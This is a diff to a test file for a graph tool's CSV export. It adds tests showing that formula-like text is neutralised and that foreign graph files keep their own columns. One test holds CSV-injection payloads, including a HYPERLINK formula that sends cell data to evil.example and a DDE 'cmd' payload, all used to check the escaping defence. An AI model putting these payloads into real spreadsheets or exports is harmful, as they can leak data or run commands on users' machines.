@@ -2,7 +2,14 @@ import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { csvField, edgesCsv, nodesCsv } from '../../../src/export/csv';
 import { EDGE_COLUMNS, nodeColumns } from '../../../src/export/fields';
+import type { CellValue } from '../../../src/export/fields';
+import { readForeignGraph } from '../../../src/foreign/read';
+import { convertForeignGraph } from '../../../src/foreign/convert';
+import { readFileSync } from 'node:fs';
 import { allInput, HOSTILE, load, NASTY, REAL, SMALL, visibleInput, withNastyPaper } from './support';
+
+/** A column's value as its CSV cell reads back: lists joined with "; ", nothing as an empty cell. */
+const cell = (v: CellValue): string => (v === undefined ? '' : Array.isArray(v) ? v.join('; ') : String(v));
 
 /** Strict RFC 4180 reading: every row as long as the header, quotes only where allowed. */
 function readCsv(text: string): Record<string, string>[] {
@@ -44,11 +51,17 @@ describe('CSV export', () => {
     expect(nodesCsv(allInput(load(SMALL)))).toMatch(/^id,label,title,[^\n]*\r\n[^\r\n]+\r\n/);
   });
 
-  it('neutralises text cells a spreadsheet would run as formulas', () => {
+  it('neutralises text cells a spreadsheet would run as formulas: a leading quote, and the cell quoted', () => {
     expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
-    expect(csvField('+1')).toBe("'+1");
-    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
-    expect(csvField('-x')).toBe("'-x");
+    expect(csvField('+1')).toBe(`"'+1"`);
+    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
+    expect(csvField('-x')).toBe(`"'-x"`);
+    expect(csvField('\t=1')).toBe(`"'\t=1"`);
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField(['=1', 'b'])).toBe(`"'=1; b"`);
+    // numbers are numbers, and a formula character inside a text is harmless
+    expect(csvField(-2)).toBe('-2');
+    expect(csvField('a=b')).toBe('a=b');
   });
 
   it('has a row per paper with its facts, taxonomy labels with evidence, drawing and build', () => {
@@ -79,7 +92,7 @@ describe('CSV export', () => {
       const a = loaded.graph.getNodeAttributes(key);
       expect(row.title).toBe(a.title);
       expect(row.year).toBe(String(a.year));
-      expect(row.authors?.split('; ')).toEqual(a.authors.length > 0 ? a.authors : ['']);
+      expect(row.authors).toBe(a.authors.join('; '));
       expect(row.method_evidence).toBe(a.taxonomy.method?.evidence ?? '');
       expect(Number(row.x)).toBe(a.x);
       expect(Number(row.y)).toBe(a.y);
@@ -88,7 +101,7 @@ describe('CSV export', () => {
       expect(row.inputs_hash).toBe(loaded.meta.inputsHash);
       for (const c of cols) {
         const v = c.get(a);
-        expect(row[c.name], `${key} ${c.name}`).toBe(v === undefined ? '' : String(v));
+        expect(row[c.name], `${key} ${c.name}`).toBe(cell(v));
       }
     }
   });
@@ -115,8 +128,10 @@ describe('CSV export', () => {
       expect(row.provenance?.split('; ')).toEqual([...new Set(a.provenance.map((p) => p.source))]);
       for (const c of EDGE_COLUMNS) {
         const v = c.get(a);
-        expect(row[c.name], `${row.id} ${c.name}`).toBe(v === undefined ? '' : String(v));
+        // the link's kind is `relation` in GEXF and GraphML, `kind` (the CSV importer's name) here
+        expect(row[c.name === 'relation' ? 'kind' : c.name], `${row.id} ${c.name}`).toBe(cell(v));
       }
+      expect(row).not.toHaveProperty('relation');
     }
     const multi = rows.find((r) => r.provenance?.includes('; '));
     expect(multi?.provenance_detail).toMatch(/fulltext-references .*; code-readme /);
@@ -131,5 +146,74 @@ describe('CSV export', () => {
     // controls kept, the lone surrogate (not encodable in UTF-8) replaced
     expect(nasty?.title).toBe(NASTY.replace('\uD800', '\uFFFD'));
     expect(nasty?.venue).toBe(nasty?.title);
+  });
+
+  it('writes a hostile graph whose every formula-like text reads back as text, never a formula', () => {
+    // texts a spreadsheet would run (https://owasp.org/www-community/attacks/CSV_Injection)
+    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
+    const loaded = load(SMALL);
+    const graph = loaded.graph.copy();
+    graph.nodes().forEach((key, i) => {
+      const f = formulas[i % formulas.length]!;
+      graph.updateNodeAttributes(key, (a) => ({
+        ...a,
+        label: f,
+        title: f,
+        venue: formulas[(i + 1) % formulas.length]!,
+        authors: [formulas[(i + 2) % formulas.length]!, 'Plain Author'],
+        tasks: [formulas[(i + 3) % formulas.length]!, ...(a.tasks ?? [])],
+      }));
+    });
+    graph.forEachEdge((e) => graph.setEdgeAttribute(e, 'note', '=1+2'));
+    const input = allInput({ graph, meta: loaded.meta });
+    const FORMULA = /^[=+\-@\t\r]/;
+    const NUMBER = /^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/i;
+    for (const text of [nodesCsv(input), edgesCsv(input)]) {
+      const rows = parse(text, { record_delimiter: '\r\n', relax_quotes: false, bom: false }) as string[][];
+      let guarded = 0;
+      for (const row of rows) {
+        for (const value of row) {
+          // a negative number is a number to a spreadsheet, not a formula
+          if (NUMBER.test(value)) continue;
+          expect(value, JSON.stringify(value)).not.toMatch(FORMULA);
+          if (value.startsWith("'") && FORMULA.test(value.slice(1))) guarded++;
+        }
+      }
+      expect(guarded).toBeGreaterThan(0);
+    }
+    const rows = readCsv(nodesCsv(input));
+    // the text is all there, behind the quote
+    for (const row of rows) {
+      const a = graph.getNodeAttributes(row.id as string);
+      expect(row.title).toBe(`'${a.title}`);
+      expect(row.label).toBe(`'${a.label}`);
+    }
+  });
+
+  it("writes a graph opened from a file with the file's own columns, not the survey's", () => {
+    const karate = convertForeignGraph(
+      readForeignGraph(readFileSync('tests/fixtures/foreign/karate.gexf', 'utf8'), 'karate.gexf'),
+    );
+    const rows = readCsv(nodesCsv(allInput(karate)));
+    const header = Object.keys(rows[0] ?? {});
+    expect(header).toEqual([
+      'id',
+      'label',
+      'dim_color-in-file',
+      'dim_color-in-file_label',
+      'citations',
+      'pagerank',
+      'community',
+      'club',
+      'degree',
+      'centrality',
+      'x',
+      'y',
+      'size',
+      'color',
+      'dataset',
+      'inputs_hash',
+    ]);
+    expect(rows.find((r) => r.id === '33')).toMatchObject({ label: 'Member 34', club: 'Officer', degree: '17' });
   });
 });
